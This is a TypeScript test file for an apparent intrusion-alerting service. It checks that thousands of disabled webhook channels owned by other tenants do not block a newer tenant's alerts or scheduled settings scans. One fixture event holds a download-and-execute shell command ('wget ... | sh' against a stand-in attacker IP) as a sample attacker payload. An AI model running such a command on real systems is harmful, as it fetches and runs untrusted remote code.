/** Strangers who register many channels must not silence whoever came later: no list over all tenants ends silently. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { allDocuments } from '../../src/cases/all-documents.ts';
import type { Alert } from '../../src/core/alert.ts';
import { alertSettingsDocs, channelDocs } from '../../src/core/doc-kinds.ts';
import { newWebhookSecret } from '../../src/notify/channels/webhook.ts';
import { answer, openReceiver, until } from '../support/notify/receiver.ts';
import { openTestServer, type TestServer } from '../support/server.ts';

const strangers = 100;
const perStranger = 100;

/** Older than whatever follows: lists that end would hold these and nothing else. */
async function storeDisabledChannels(store: TestServer['store']): Promise<void> {
  const created_at = '2020-01-01T00:00:00.000Z';
  for (let stranger = 0; stranger < strangers; stranger++) {
    const user_id = `stranger-${stranger}`;
    const docs = Array.from({ length: perStranger }, (_, n) =>
      channelDocs.create(
        { id: `ch-${stranger}-${n}`, user_id },
        {
          id: `ch-${stranger}-${n}`,
          name: 'none',
          channel: 'webhook',
          settings: {},
          enabled: false,
          filter: {},
          disabled_reason: null,
        },
        created_at,
      ),
    );
    docs.push(alertSettingsDocs.create({ id: user_id, user_id }, alertSettingsDocs.parse({}), created_at));
    await Promise.all(docs.map((doc) => store.of(user_id).createDoc(doc)));
  }
}

describe('10,000 disabled channels of strangers', () => {
  it('leave a newer tenant notified, escalated to and answered', async (t) => {
    const receiver = await openReceiver(answer(204));
    t.after(() => receiver.close());
    const server = await openTestServer({ env: { NOTIFY_ALLOW_PRIVATE: '127.0.0.1' } });
    t.after(() => server.close());
    await storeDisabledChannels(server.store);
    const user = await server.createUser();
    const node = await server.createNode(user);
    const made = await server.call('POST', '/api/channels', {
      headers: user.headers,
      body: {
        name: 'SOC',
        channel: 'webhook',
        settings: { url: `${receiver.url}/hook`, secret: newWebhookSecret() },
      },
    });
    assert.equal(made.status, 200);
    const sent = await server.call('POST', '/api/events', {
      headers: node.headers,
      body: [
        {
          service: 'ssh',
          source_ip: '203.0.113.50',
          activity: 'command',
          payload: 'wget http://198.51.100.1/x -O- | sh',
          timestamp: new Date().toISOString(),
        },
      ],
    });
    assert.equal(sent.body.accepted, 1, JSON.stringify(sent.body));
    await until(() => receiver.seen.length > 0);
    const { items } = await server.store.of(user.id).alerts({}, { limit: 10 });
    assert.deepEqual(
      items.map(({ notified }: Alert) => notified),
      [true],
    );
  });

  it('do not hide the settings of later tenants from what runs by the clock', async (t) => {
    const server = await openTestServer();
    t.after(() => server.close());
    await storeDisabledChannels(server.store);
    let channels = 0;
    for await (const { body } of allDocuments(server.store, channelDocs)) if (!body.enabled) channels++;
    assert.equal(channels, strangers * perStranger);
    const owners: string[] = [];
    const late = alertSettingsDocs.create(
      { id: 'late', user_id: 'late' },
      alertSettingsDocs.parse({ escalation_minutes: 5 }),
      '2026-11-30T00:00:00.000Z',
    );
    await server.store.of('late').createDoc(late);
    for await (const { user_id } of allDocuments(server.store, alertSettingsDocs, 30)) owners.push(user_id);
    assert.equal(owners.length, strangers + 1);
    assert.equal(owners.at(-1), 'late');
  });
});
